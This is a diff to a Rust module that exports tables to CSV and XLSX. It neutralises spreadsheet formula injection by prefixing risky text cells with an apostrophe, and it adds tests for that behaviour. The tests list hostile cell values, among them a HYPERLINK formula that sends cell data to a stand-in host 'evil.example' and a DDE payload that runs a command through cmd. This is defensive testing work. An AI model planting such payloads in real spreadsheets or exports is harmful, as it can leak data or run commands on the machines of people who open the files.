@@ -2,6 +2,11 @@
 //!
 //! CSV is written for Russian Excel: UTF-8 with a byte-order mark, `;` between fields, decimal
 //! comma. XLSX keeps numbers as numbers (one decimal shown).
+//!
+//! Every text cell (names come from agents: site, hostname, target) is neutralised against
+//! formula injection by the OWASP rule: text starting with `=`, `+`, `-`, `@`, a tab or a CR gets
+//! a leading `'`, so a spreadsheet shows it as text and never evaluates it. Numbers stay numbers
+//! (a negative number is written as a number, not as text).
 
 use crate::availability::indicators::{Avail, CountRow};
 use crate::availability::{Availability, Counts, IndicatorTable};
@@ -39,6 +44,18 @@ impl From<u64> for Cell {
     }
 }
 
+/// Characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection").
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `s` as a spreadsheet shows it as text: a leading `'` when it could start a formula.
+fn neutralise(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(FORMULA_START) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
 /// A titled table.
 #[derive(Debug, Clone, PartialEq)]
 pub struct Table {
@@ -68,12 +85,17 @@ impl Table {
             w.write_record(&fields)
                 .unwrap_or_else(|e| unreachable!("CSV into memory: {e}"));
         };
-        write(self.headers.clone());
+        write(
+            self.headers
+                .iter()
+                .map(|h| neutralise(h).into_owned())
+                .collect(),
+        );
         for r in &self.rows {
             write(
                 r.iter()
                     .map(|c| match c {
-                        Cell::Text(s) => s.clone(),
+                        Cell::Text(s) => neutralise(s).into_owned(),
                         Cell::Num(v) => format!("{:.*}", self.decimals, v).replace('.', ","),
                         Cell::Empty => String::new(),
                     })
@@ -108,9 +130,9 @@ impl Table {
         let mut row: u32 = 0;
         for (i, t) in self.title.iter().enumerate() {
             if i == 0 {
-                ws.write_string_with_format(row, 0, t, &bold)?;
+                ws.write_string_with_format(row, 0, neutralise(t), &bold)?;
             } else {
-                ws.write_string(row, 0, t)?;
+                ws.write_string(row, 0, neutralise(t))?;
             }
             row += 1;
         }
@@ -118,7 +140,7 @@ impl Table {
             row += 1;
         }
         for (c, h) in self.headers.iter().enumerate() {
-            ws.write_string_with_format(row, c as u16, h, &head)?;
+            ws.write_string_with_format(row, c as u16, neutralise(h), &head)?;
             let width = if c == 0 { 60.0 } else { 16.0 };
             ws.set_column_width(c as u16, width)?;
         }
@@ -126,7 +148,9 @@ impl Table {
         for r in &self.rows {
             for (c, cell) in r.iter().enumerate() {
                 match cell {
-                    Cell::Text(s) => ws.write_string_with_format(row, c as u16, s, &text)?,
+                    Cell::Text(s) => {
+                        ws.write_string_with_format(row, c as u16, neutralise(s), &text)?
+                    }
                     Cell::Num(v) => ws.write_number_with_format(row, c as u16, *v, &num)?,
                     Cell::Empty => ws.write_blank(row, c as u16, &text)?,
                 };
@@ -135,7 +159,7 @@ impl Table {
         }
         row += 1;
         for n in &self.notes {
-            ws.write_string(row, 0, n)?;
+            ws.write_string(row, 0, neutralise(n))?;
             row += 1;
         }
         wb.save_to_buffer()
@@ -403,5 +427,96 @@ mod tests {
             csv,
             "\u{feff}МО;\"Доля; %\";Хосты\r\nГП «№ 1»;99,46;\r\n\"say \"\"hi\"\"\nthere\";3,00;5,00\r\n"
         );
+    }
+
+    /// Hostile names as issue 10 found them (an agent's `--site`, hostname, target).
+    const HOSTILE: [&str; 8] = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")",
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1",
+        "\r=1",
+        "ФАП «Сосновка»",
+    ];
+
+    fn hostile_table() -> Table {
+        Table {
+            sheet: "s".into(),
+            title: vec!["=title".into()],
+            headers: vec!["=МО".into(), "Доля".into()],
+            rows: HOSTILE
+                .iter()
+                .map(|h| vec![Cell::from(*h), Cell::Num(-12.5)])
+                .collect(),
+            notes: vec!["-note".into()],
+            decimals: 2,
+        }
+    }
+
+    fn dangerous(s: &str) -> bool {
+        s.starts_with(FORMULA_START)
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        let bytes = hostile_table().to_csv();
+        let mut r = csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(&bytes[3..]);
+        let mut texts = Vec::new();
+        for rec in r.records() {
+            let rec = rec.unwrap();
+            for (i, f) in rec.iter().enumerate() {
+                if i == 1 && f != "Доля" {
+                    // The number column: negative numbers are numbers, written as such.
+                    assert_eq!(f, "-12,50");
+                    continue;
+                }
+                assert!(!dangerous(f), "CSV cell {f:?}");
+                texts.push(f.to_string());
+            }
+        }
+        // Nothing lost: the name is there after the quote.
+        assert!(
+            texts.contains(&"'=cmd|' /C calc'!A0".to_string()),
+            "{texts:?}"
+        );
+        assert!(texts.contains(&"ФАП «Сосновка»".to_string()), "{texts:?}");
+        assert_eq!(texts.len(), HOSTILE.len() + 2);
+    }
+
+    #[test]
+    fn xlsx_cells_never_start_a_formula() {
+        use calamine::{Data, Reader as _, Xlsx};
+        let bytes = hostile_table().to_xlsx().unwrap();
+        let mut wb: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
+        let range = wb.worksheet_range("s").unwrap();
+        let (mut texts, mut nums) = (0, 0);
+        for row in range.rows() {
+            for cell in row {
+                match cell {
+                    Data::String(s) => {
+                        assert!(!dangerous(s), "XLSX cell {s:?}");
+                        texts += 1;
+                    }
+                    Data::Float(v) => {
+                        assert_eq!(*v, -12.5);
+                        nums += 1;
+                    }
+                    Data::Empty => {}
+                    other => panic!("unexpected cell {other:?}"),
+                }
+            }
+        }
+        // Title, two headers, the names, the note; one number per row, kept numeric.
+        assert_eq!(texts, 1 + 2 + HOSTILE.len() + 1);
+        assert_eq!(nums, HOSTILE.len());
+        // And the workbook holds no formula at all.
+        let formulas = wb.worksheet_formula("s").unwrap();
+        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
     }
 }
